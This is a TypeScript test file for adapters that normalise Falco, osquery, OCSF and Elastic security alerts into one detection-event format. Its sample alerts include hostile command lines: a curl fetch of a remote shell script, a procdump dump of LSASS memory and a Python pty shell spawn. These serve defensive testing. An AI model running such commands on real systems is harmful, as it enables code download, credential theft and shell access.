/**
 * Events the fixtures do not hold, written after each format's documentation and real output (Falco's
 * json_output with container/k8s fields, osqueryd's filesystem and TLS logger, OCSF 1.3 examples, Elastic
 * Security alerts as exported and as ECS-mapped by integrations): each must normalize to the right host,
 * process, user, severity, techniques and time, or be refused with a reason naming the field.
 */
import { describe, expect, it } from 'vitest';
import { DetectionEvent } from '../detection-event.js';
import { ecsAdapter } from './ecs.js';
import { falcoAdapter } from './falco.js';
import { genericAdapter } from './generic.js';
import { ocsfAdapter } from './ocsf.js';
import { osqueryAdapter } from './osquery.js';
import type { AdapterResult, SourceAdapter } from './types.js';

const ctx = { id: 'ev_unseen0000', receivedAt: '2026-11-27T09:00:00.000Z' };

function one(adapter: SourceAdapter, raw: unknown): DetectionEvent {
  const r = adapter.parse(raw, ctx);
  if (!r.ok) throw new Error(r.issues.join('; '));
  expect(r.events).toHaveLength(1);
  const ev = r.events[0]!;
  expect(DetectionEvent.parse(ev)).toEqual(ev);
  return ev;
}

function refused(r: AdapterResult): string[] {
  if (r.ok) throw new Error(`expected a refusal, got ${r.events.length} event(s)`);
  return r.issues;
}

describe('falco: alerts the fixtures do not hold', () => {
  const k8sShell = {
    hostname: 'ip-10-0-3-17.eu-west-1.compute.internal',
    output:
      '09:12:44.123456789: Notice A shell was spawned in a container with an attached terminal (evt_type=execve user=root user_uid=0 user_loginuid=-1 process=bash proc_exepath=/usr/bin/bash parent=runc command=bash terminal=34816 exe_flags=EXE_WRITABLE container_id=3ad7b26ded6d container_name=nginx k8s_ns=shop k8s_pod_name=nginx-7c5ddbdf54-2kq9x)',
    output_fields: {
      'container.id': '3ad7b26ded6d',
      'container.image.repository': 'docker.io/library/nginx',
      'container.image.tag': '1.25.3',
      'container.name': 'nginx',
      'evt.time': 1764234764123456789,
      'evt.type': 'execve',
      'k8s.ns.name': 'shop',
      'k8s.pod.name': 'nginx-7c5ddbdf54-2kq9x',
      'proc.cmdline': 'bash',
      'proc.exepath': '/usr/bin/bash',
      'proc.name': 'bash',
      'proc.pid': 23817,
      'proc.pname': 'runc',
      'proc.ppid': 23801,
      'proc.tty': 34816,
      'user.loginuid': -1,
      'user.name': 'root',
      'user.uid': 0,
    },
    priority: 'Notice',
    rule: 'Terminal shell in container',
    source: 'syscall',
    tags: ['T1059', 'container', 'maturity_stable', 'mitre_execution', 'shell'],
    time: '2026-11-27T09:12:44.123456789Z',
  };

  it('maps a k8s terminal-shell alert: host, container image:tag, pid, user, Notice -> low', () => {
    const ev = one(falcoAdapter, k8sShell);
    expect(ev.host.id).toBe('ip-10-0-3-17.eu-west-1.compute.internal');
    expect(ev.observedAt).toBe('2026-11-27T09:12:44.123456789Z');
    expect(ev.container).toEqual({
      id: '3ad7b26ded6d',
      name: 'nginx',
      image: 'docker.io/library/nginx:1.25.3',
    });
    expect(ev.process).toMatchObject({
      pid: 23817,
      ppid: 23801,
      executable: '/usr/bin/bash',
      commandLine: 'bash',
      ancestors: [{ pid: 23801, name: 'runc' }],
    });
    expect(ev.user).toMatchObject({ name: 'root', uid: 0 });
    expect(ev.detection).toMatchObject({
      severity: 'low',
      techniques: ['T1059'],
      tactics: ['execution'],
    });
  });

  it.each([
    ['Emergency', 'critical'],
    ['ALERT', 'critical'],
    ['Critical', 'critical'],
    ['Error', 'high'],
    ['Warning', 'medium'],
    ['Notice', 'low'],
    ['Informational', 'info'],
    ['Debug', 'info'],
  ])('maps priority %s to %s', (priority, severity) => {
    expect(one(falcoAdapter, { ...k8sShell, priority }).detection.severity).toBe(severity);
  });

  it('takes sub-technique tags, pids given as strings and the time from evt.time', () => {
    const { time: _t, ...noTime } = k8sShell;
    const ev = one(falcoAdapter, {
      ...noTime,
      tags: ['T1611', 'T1059.004', 'mitre_privilege_escalation'],
      output_fields: { ...k8sShell.output_fields, 'proc.pid': '23817', 'evt.time': '1764234764123456789' },
    });
    expect(ev.detection.techniques).toEqual(['T1611', 'T1059.004']);
    expect(ev.process?.pid).toBe(23817);
    expect(ev.observedAt).toBe('2025-11-27T09:12:44.123Z');
  });

  it('keeps an unknown pid absent, not wrong (<NA>, null, "12ab", 1.5)', () => {
    for (const pid of ['<NA>', null, '12ab', 1.5, '-']) {
      const ev = one(falcoAdapter, {
        ...k8sShell,
        output_fields: { ...k8sShell.output_fields, 'proc.pid': pid },
      });
      expect(ev.process?.pid).toBeUndefined();
    }
  });

  it('reads a host-level (container.id "host") alert without a container', () => {
    const ev = one(falcoAdapter, {
      ...k8sShell,
      output_fields: { ...k8sShell.output_fields, 'container.id': 'host', 'container.name': 'host' },
    });
    expect(ev.container).toBeUndefined();
  });

  it('refuses an alert without a hostname, naming it', () => {
    const { hostname: _h, ...noHost } = k8sShell;
    expect(refused(falcoAdapter.parse(noHost, ctx)).join(' ')).toMatch(/hostname/);
  });

  it('refuses an unknown priority, naming it', () => {
    expect(refused(falcoAdapter.parse({ ...k8sShell, priority: 'Severe' }, ctx)).join(' ')).toMatch(
      /priority/,
    );
    expect(refused(falcoAdapter.parse({ ...k8sShell, priority: undefined }, ctx)).join(' ')).toMatch(
      /priority/,
    );
  });

  it('maps a k8s_audit plugin alert (no process) with user and no container', () => {
    const ev = one(falcoAdapter, {
      hostname: 'falco-node-3',
      output: 'Attach/Exec to pod (user=system:admin pod=nginx ns=shop action=exec command=bash)',
      output_fields: {
        'ka.user.name': 'system:admin',
        'ka.target.pod.name': 'nginx',
        'ka.target.namespace': 'shop',
      },
      priority: 'Notice',
      rule: 'Attach/Exec Pod',
      source: 'k8s_audit',
      tags: ['k8s'],
      time: '2026-11-27T09:12:44.000000000Z',
    });
    expect(ev.process).toBeUndefined();
    expect(ev.detection.severity).toBe('low');
  });
});

describe('osquery: results the fixtures do not hold', () => {
  // Shapes after osqueryd's filesystem logger (numbers as strings, "calendarTime" with a space-padded day).
  const base = {
    name: 'pack_incident-response_process_events',
    hostIdentifier: 'db-02.corp.example',
    calendarTime: 'Fri Jul  1 03:14:31 2016 UTC',
    unixTime: '1467342871',
    epoch: '0',
    counter: '4',
    numerics: false,
    decorations: { host_uuid: 'faa346a2-1b63-4279-a478-d53811043d77', username: '' },
  };
  const row = {
    pid: '3120',
    path: '/usr/bin/curl',
    cmdline: 'curl -s http://203.0.113.9/x.sh',
    parent: '3101',
    uid: '1001',
    auid: '4294967295',
    cwd: '/tmp',
    time: '1467342860',
  };

  it('maps an added process_events row: pid, exe, cmdline, parent, time from the row', () => {
    const ev = one(osqueryAdapter, { ...base, action: 'added', columns: row });
    expect(ev.host).toEqual({ id: 'db-02.corp.example', name: 'db-02.corp.example', addresses: [] });
    expect(ev.observedAt).toBe('2016-07-01T03:14:20.000Z');
    expect(ev.process).toMatchObject({
      pid: 3120,
      ppid: 3101,
      executable: '/usr/bin/curl',
      commandLine: 'curl -s http://203.0.113.9/x.sh',
      cwd: '/tmp',
      user: { uid: 1001 },
    });
    expect(ev.user).toEqual({ uid: 1001 });
    expect(ev.detection.ruleName).toBe('process_events (pack incident-response)');
  });

  it('takes the time from calendarTime (space-padded day) when unixTime is absent', () => {
    const { unixTime: _u, ...env } = base;
    const { time: _t, ...cols } = row;
    expect(one(osqueryAdapter, { ...env, action: 'added', columns: cols }).observedAt).toBe(
      '2016-07-01T03:14:31.000Z',
    );
  });

  it('raises nothing for counter 0 (string or number) in event and batch formats', () => {
    for (const counter of ['0', 0]) {
      const a = osqueryAdapter.parse({ ...base, counter, action: 'added', columns: row }, ctx);
      expect(a).toMatchObject({ ok: true, events: [], skipped: { count: 1 } });
      const b = osqueryAdapter.parse(
        { ...base, counter, diffResults: { added: [row, row], removed: [] } },
        ctx,
      );
      expect(b).toMatchObject({ ok: true, events: [], skipped: { count: 2 } });
    }
  });

  it('raises only the added rows of a batch, with per-row ids, and counts the removed', () => {
    const r = osqueryAdapter.parse(
      {
        ...base,
        diffResults: { added: [row, { ...row, pid: '3121' }], removed: [{ ...row, pid: '2000' }] },
      },
      ctx,
    );
    if (!r.ok) throw new Error(r.issues.join('; '));
    expect(r.events.map((e) => e.process?.pid)).toEqual([3120, 3121]);
    expect(r.events.map((e) => e.id)).toEqual(['ev_unseen0000', 'ev_unseen0000.1']);
    expect(r.skipped).toEqual({ count: 1, reason: expect.stringMatching(/removed/) as string });
  });

  it('raises every row of a snapshot, also at counter 0', () => {
    const r = osqueryAdapter.parse(
      { ...base, counter: 0, action: 'snapshot', snapshot: [row, { ...row, pid: '77' }] },
      ctx,
    );
    if (!r.ok) throw new Error(r.issues.join('; '));
    expect(r.events).toHaveLength(2);
  });

  it('reads numerics (--logger_numerics) and a processes row with start_time -1', () => {
    const ev = one(osqueryAdapter, {
      ...base,
      numerics: true,
      unixTime: 1467342871,
      counter: 9,
      action: 'added',
      columns: {
        pid: 812,
        name: 'sshd',
        path: '/usr/sbin/sshd',
        cmdline: '/usr/sbin/sshd -D',
        parent: 1,
        start_time: -1,
      },
    });
    expect(ev.process).toMatchObject({ pid: 812, ppid: 1, executable: '/usr/sbin/sshd' });
    expect(ev.process?.startTime).toBeUndefined();
    const started = one(osqueryAdapter, {
      ...base,
      action: 'added',
      columns: { pid: '812', path: '/usr/sbin/sshd', start_time: '1467340000' },
    });
    expect(started.process?.startTime).toBe('2016-07-01T02:26:40.000Z');
  });

  it('keeps a malformed pid absent rather than wrong', () => {
    for (const pid of ['3120abc', '31.20', '', '0x10']) {
      const ev = one(osqueryAdapter, { ...base, action: 'added', columns: { ...row, pid } });
      expect(ev.process?.pid).toBeUndefined();
    }
  });

  it('reads severity and techniques from decorations, uppercase included', () => {
    const ev = one(osqueryAdapter, {
      ...base,
      name: 'pack_hunt_T1053_003_crontab',
      decorations: { ...base.decorations, severity: 'HIGH', mitre_technique: 't1059.004, T1105' },
      action: 'added',
      columns: row,
    });
    expect(ev.detection.severity).toBe('high');
    expect(ev.detection.techniques).toEqual(['T1059.004', 'T1105', 'T1053.003']);
  });

  it('falls back to the host_uuid decoration when hostIdentifier is missing', () => {
    const { hostIdentifier: _h, ...env } = base;
    const ev = one(osqueryAdapter, { ...env, action: 'added', columns: row });
    expect(ev.host.id).toBe('faa346a2-1b63-4279-a478-d53811043d77');
  });

  it('refuses a result without a name, and an unknown action, naming the field', () => {
    const { name: _n, ...noName } = base;
    expect(
      refused(osqueryAdapter.parse({ ...noName, action: 'added', columns: row }, ctx)).join(' '),
    ).toMatch(/name/);
    expect(
      refused(osqueryAdapter.parse({ ...base, action: 'changed', columns: row }, ctx)).join(' '),
    ).toMatch(/action/);
  });
});

describe('ocsf: findings and process activity the fixtures do not hold', () => {
  const finding = {
    activity_id: 1,
    activity_name: 'Create',
    category_uid: 2,
    class_uid: 2004,
    class_name: 'Detection Finding',
    type_uid: 200401,
    time: 1764234764123,
    severity_id: 4,
    severity: 'High',
    status_id: 1,
    metadata: { version: '1.3.0', product: { name: 'EDR-X', vendor_name: 'Example' }, labels: ['prod'] },
    device: {
      uid: 'a1b2c3d4-0000-4000-8000-00000000abcd',
      hostname: 'WIN-FS01',
      ip: '10.1.2.3',
      type_id: 2,
      os: { name: 'Windows', type_id: 100 },
    },
    finding_info: {
      uid: 'f-88123',
      title: 'LSASS memory read by an unsigned process',
      analytic: { uid: 'edrx-cred-0042', name: 'LSASS Access', type_id: 1 },
      attacks: [
        {
          version: '14',
          tactic: { uid: 'TA0006', name: 'Credential Access' },
          technique: { uid: 'T1003', name: 'OS Credential Dumping' },
          sub_technique: { uid: 'T1003.001', name: 'LSASS Memory' },
        },
      ],
      types: ['credential-theft'],
    },
    evidences: [
      {
        process: {
          pid: 6120,
          name: 'procdump64.exe',
          cmd_line: 'procdump64.exe -ma lsass.exe out.dmp',
          created_time: 1764234700000,
          file: { path: 'C:\\Users\\bob\\procdump64.exe', name: 'procdump64.exe' },
          user: { name: 'bob', uid: 'S-1-5-21-1-2-3-1104', domain: 'CORP' },
          parent_process: { pid: 4410, name: 'cmd.exe', file: { path: 'C:\\Windows\\System32\\cmd.exe' } },
        },
      },
    ],
    observables: [{ name: 'device.hostname', type_id: 1, value: 'WIN-FS01' }],
    unmapped: { edrx_score: 87, 'weird.key': [1, 2, 3] },
  };

  it('maps a 2004 finding: device uid as host, analytic as rule, technique + sub-technique', () => {
    const ev = one(ocsfAdapter, finding);
    expect(ev.host).toMatchObject({ id: finding.device.uid, name: 'WIN-FS01', addresses: ['10.1.2.3'] });
    expect(ev.observedAt).toBe('2025-11-27T09:12:44.123Z');
    expect(ev.process).toMatchObject({
      pid: 6120,
      ppid: 4410,
      executable: 'C:\\Users\\bob\\procdump64.exe',
      commandLine: 'procdump64.exe -ma lsass.exe out.dmp',
      startTime: '2025-11-27T09:11:40.000Z',
    });
    expect(ev.user).toEqual({ name: 'bob', domain: 'CORP' });
    expect(ev.detection).toMatchObject({
      ruleId: 'edrx-cred-0042',
      ruleName: 'LSASS Access',
      severity: 'high',
      techniques: ['T1003', 'T1003.001'],
      tactics: ['Credential Access'],
    });
  });

  it.each([
    [1, undefined, 'info'],
    [5, undefined, 'critical'],
    [6, 'Fatal', 'critical'],
    [0, 'Unknown', 'medium'],
    [0, 'Critical', 'critical'],
    [99, 'High', 'high'],
    [99, undefined, 'medium'],
  ])('maps severity_id %s (caption %s) to %s', (severity_id, severity, expected) => {
    expect(one(ocsfAdapter, { ...finding, severity_id, severity }).detection.severity).toBe(expected);
  });

  it('refuses severity_id 7 and a string pid, naming the field', () => {
    expect(refused(ocsfAdapter.parse({ ...finding, severity_id: 7 }, ctx)).join(' ')).toMatch(/severity_id/);
    const bad = structuredClone(finding) as unknown as { evidences: [{ process: { pid: unknown } }] };
    bad.evidences[0].process.pid = '6120';
    expect(refused(ocsfAdapter.parse(bad, ctx)).join(' ')).toMatch(/evidences\.0\.process\.pid/);
  });

  it('skips a Close and refuses an unsupported class by name', () => {
    expect(ocsfAdapter.parse({ ...finding, activity_id: 3, type_uid: 200403 }, ctx)).toMatchObject({
      ok: true,
      events: [],
    });
    expect(
      refused(ocsfAdapter.parse({ ...finding, class_uid: 2001, type_uid: 200101 }, ctx)).join(' '),
    ).toMatch(/class_uid: 2001/);
  });

  const launch = {
    activity_id: 1,
    class_uid: 1007,
    category_uid: 1,
    type_uid: 100701,
    time: 1764234764,
    severity_id: 3,
    device: { hostname: 'lnx-build-07', os: { name: 'Ubuntu', type: 'Linux' } },
    actor: {
      process: {
        pid: 900,
        name: 'bash',
        file: { path: '/usr/bin/bash' },
        parent_process: { pid: 1, name: 'systemd' },
      },
      user: { name: 'ci', uid: '1002' },
    },
    process: {
      pid: 901,
      cmd_line: 'python3 -c "import pty;pty.spawn(\'/bin/sh\')"',
      file: { path: '/usr/bin/python3.12', name: 'python3.12' },
      created_time: 1764234764000,
    },
    attacks: [
      { technique: { uid: 'T1059.006', name: 'Python' }, tactic: { uid: 'TA0002', name: 'Execution' } },
    ],
  };

  it('maps a 1007 Launch with seconds for time: actor as parent, rule from the activity and technique', () => {
    const ev = one(ocsfAdapter, launch);
    expect(ev.observedAt).toBe('2025-11-27T09:12:44.000Z');
    expect(ev.host.id).toBe('lnx-build-07');
    expect(ev.process).toMatchObject({
      pid: 901,
      ppid: 900,
      name: 'python3.12',
      executable: '/usr/bin/python3.12',
      ancestors: [
        { pid: 900, name: 'bash' },
        { pid: 1, name: 'systemd' },
      ],
    });
    expect(ev.user).toEqual({ name: 'ci', uid: 1002 });
    expect(ev.detection).toMatchObject({
      ruleId: 'Process Activity: Launch (T1059.006 Python)',
      severity: 'medium',
      techniques: ['T1059.006'],
    });
  });

  it('refuses a 1007 without a device or a process, naming them', () => {
    const { device: _d, process: _p, ...bare } = launch;
    const issues = refused(ocsfAdapter.parse({ ...bare, actor: undefined }, ctx)).join(' ');
    expect(issues).toMatch(/device/);
    expect(issues).toMatch(/process/);
  });
});

describe('ecs: Elastic alerts the fixtures do not hold', () => {
  const flat = {
    '@timestamp': '2026-11-27T09:13:05.512Z',
    'kibana.alert.original_time': '2026-11-27T09:12:44.000Z',
    'kibana.alert.rule.name': 'Potential Reverse Shell via Python',
    'kibana.alert.rule.rule_id': 'a1ab3b6e-66f2-4f7a-8e5c-4b3f5f2f7a10',
    'kibana.alert.rule.uuid': '5b8f2c10-0a1a-11ee-9a3f-0242ac120002',
    'kibana.alert.severity': 'critical',
    'kibana.alert.risk_score': 21,
    'kibana.alert.reason': 'process event with process python3, by ci on lnx-build-07 created critical alert',
    'kibana.alert.rule.threat': [
      {
        framework: 'MITRE ATT&CK',
        tactic: { id: 'TA0002', name: 'Execution', reference: 'https://attack.mitre.org/tactics/TA0002/' },
        technique: [
          {
            id: 'T1059',
            name: 'Command and Scripting Interpreter',
            subtechnique: [{ id: 'T1059.006', name: 'Python' }],
          },
        ],
      },
    ],
    'kibana.alert.rule.tags': ['Domain: Endpoint', 'OS: Linux'],
    'event.kind': 'signal',
    'host.id': '3f6a1c0d8e2b4c7a9d1e5f2a6b8c0d4e',
    'host.name': 'lnx-build-07',
    'host.ip': ['10.4.0.7', 'fe80::1'],
    'host.os.family': 'ubuntu',
    'process.pid': 901,
    'process.executable': '/usr/bin/python3.12',
    'process.args': ['python3', '-c', 'import pty;pty.spawn("/bin/sh")'],
    'process.start': '2026-11-27T09:12:43.900Z',
    'process.parent.pid': 900,
    'process.parent.name': 'bash',
    'user.name': 'ci',
    'user.id': '1002',
  };

  it('maps a flattened 8.x alert: severity word over risk score, sub-techniques, host id and name', () => {
    const ev = one(ecsAdapter, flat);
    expect(ev.observedAt).toBe('2026-11-27T09:12:44.000Z');
    expect(ev.host).toMatchObject({ id: '3f6a1c0d8e2b4c7a9d1e5f2a6b8c0d4e', name: 'lnx-build-07' });
    expect(ev.host.addresses).toEqual(['10.4.0.7', 'fe80::1']);
    expect(ev.process).toMatchObject({
      pid: 901,
      ppid: 900,
      executable: '/usr/bin/python3.12',
      commandLine: 'python3 -c import pty;pty.spawn("/bin/sh")',
      startTime: '2026-11-27T09:12:43.900Z',
    });
    expect(ev.user).toEqual({ name: 'ci', uid: 1002 });
    expect(ev.detection).toMatchObject({
      ruleId: 'a1ab3b6e-66f2-4f7a-8e5c-4b3f5f2f7a10',
      severity: 'critical',
      techniques: ['T1059', 'T1059.006'],
      tactics: ['Execution'],
    });
  });

  it('maps the same alert nested the same way', () => {
    const nested = {
      '@timestamp': flat['@timestamp'],
      kibana: {
        alert: {
          original_time: flat['kibana.alert.original_time'],
          rule: {
            name: flat['kibana.alert.rule.name'],
            rule_id: flat['kibana.alert.rule.rule_id'],
            threat: flat['kibana.alert.rule.threat'],
          },
          severity: 'critical',
          risk_score: 21,
        },
      },
      event: { kind: 'signal' },
      host: { id: flat['host.id'], name: 'lnx-build-07', ip: flat['host.ip'] },
      process: { pid: '901', executable: flat['process.executable'], parent: { pid: 900, name: 'bash' } },
    };
    const ev = one(ecsAdapter, nested);
    expect(ev.host.id).toBe(flat['host.id']);
    expect(ev.process).toMatchObject({ pid: 901, ppid: 900 });
    expect(ev.detection).toMatchObject({ severity: 'critical', techniques: ['T1059', 'T1059.006'] });
  });

  it('reads threat.technique.id arrays and a fields-API response', () => {
    const ev = one(ecsAdapter, {
      fields: {
        '@timestamp': ['2026-11-27T09:12:44.000Z'],
        'event.kind': ['alert'],
        'rule.name': ['Custom rule'],
        'host.name': ['web-01'],
        'threat.technique.id': ['T1105', 'T1059'],
        'threat.technique.subtechnique.id': ['T1059.004'],
        'process.pid': [4242],
      },
    });
    expect(ev.host.id).toBe('web-01');
    expect(ev.detection.techniques).toEqual(['T1105', 'T1059', 'T1059.004']);
    expect(ev.process?.pid).toBe(4242);
  });

  it("reads a Suricata alert's event.severity on Suricata's scale (1 most severe), not as a 0-100 score", () => {
    // Elastic's Suricata integration copies suricata.eve.alert.severity (1 = most severe, 3 = least) into
    // event.severity; read as a 0-100 score, 1 would become "low".
    const alert = (severity: number) => ({
      '@timestamp': '2026-11-27T09:12:44.000Z',
      event: { kind: 'alert', module: 'suricata', dataset: 'suricata.eve', severity },
      rule: { name: 'ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)', id: '2034647' },
      host: { name: 'ids-01' },
      source: { ip: '198.51.100.4', port: 44321 },
      destination: { ip: '10.0.0.5', port: 8080 },
      suricata: { eve: { alert: { severity, signature_id: 2034647 } } },
    });
    expect(one(ecsAdapter, alert(1)).detection.severity).toBe('high');
    expect(one(ecsAdapter, alert(2)).detection.severity).toBe('medium');
    expect(one(ecsAdapter, alert(3)).detection.severity).toBe('low');
    const { suricata: _s, ...moduleOnly } = alert(1);
    expect(one(ecsAdapter, moduleOnly).detection.severity).toBe('high');
    // Any other source's numeric event.severity stays a 0-100 score.
    expect(
      one(ecsAdapter, { ...moduleOnly, event: { kind: 'alert', severity: 80 } }).detection.severity,
    ).toBe('critical');
  });

  it('reads a risk score or event.severity sent as a decimal string, not as absent (medium)', () => {
    const alert = {
      '@timestamp': '2026-11-27T09:12:44.000Z',
      event: { kind: 'alert', severity: '90' },
      rule: { name: 'Custom rule shipped by Logstash' },
      host: { name: 'web-01' },
    };
    expect(one(ecsAdapter, alert).detection.severity).toBe('critical');
    expect(
      one(ecsAdapter, { ...flat, 'kibana.alert.severity': undefined, 'kibana.alert.risk_score': '73' })
        .detection.severity,
    ).toBe('high');
    expect(
      one(ecsAdapter, { ...alert, event: { kind: 'alert', severity: 'ninety' } }).detection.severity,
    ).toBe('medium');
  });

  it('refuses raw telemetry (event.kind event, no rule), naming event.kind', () => {
    const r = ecsAdapter.parse(
      { '@timestamp': '2026-11-27T09:12:44.000Z', event: { kind: 'event' }, host: { name: 'web-01' } },
      ctx,
    );
    expect(refused(r).join(' ')).toMatch(/event\.kind/);
  });

  it('refuses an alert without a host, naming the fields', () => {
    const { 'host.id': _i, 'host.name': _n, ...noHost } = flat;
    expect(refused(ecsAdapter.parse(noHost, ctx)).join(' ')).toMatch(/host\.id/);
  });
});

describe('generic: edge cases', () => {
  const base = {
    time: '2026-11-27T09:12:44.5+01:00',
    host: 'wébserver-ü-01',
    rule: { id: 'R-✓-1', name: 'Règle 🚨 exfiltration' },
    severity: 'high',
  };

  it('keeps unicode host and rule names', () => {
    const ev = one(genericAdapter, base);
    expect(ev.host.id).toBe('wébserver-ü-01');
    expect(ev.detection.ruleName).toBe('Règle 🚨 exfiltration');
  });

  it.each([
    [95, 'critical'],
    [89.9, 'high'],
    [0, 'info'],
  ])('buckets numeric severity %s as %s', (severity, expected) => {
    expect(one(genericAdapter, { ...base, severity }).detection.severity).toBe(expected);
  });

  it('refuses what it cannot map faithfully, naming the field', () => {
    const cases: [unknown, RegExp][] = [
      [{ ...base, severity: 'HIGH' }, /severity/],
      [{ ...base, severity: '80' }, /severity/],
      [{ ...base, severity: 101 }, /severity/],
      [{ ...base, process: { pid: '123' } }, /process\.pid/],
      [{ ...base, process: { pid: -1 } }, /process\.pid/],
      [{ ...base, host: '' }, /host/],
      [{ ...base, host: 'h'.repeat(256) }, /host/],
      [{ ...base, time: '2026-11-27 09:12:44' }, /time/],
      [{ ...base, techniques: ['T1059.4'] }, /techniques/],
      [{ ...base, message: 'x'.repeat(8193) }, /message/],
    ];
    for (const [raw, field] of cases)
      expect(refused(genericAdapter.parse(raw, ctx)).join(' ')).toMatch(field);
  });
});
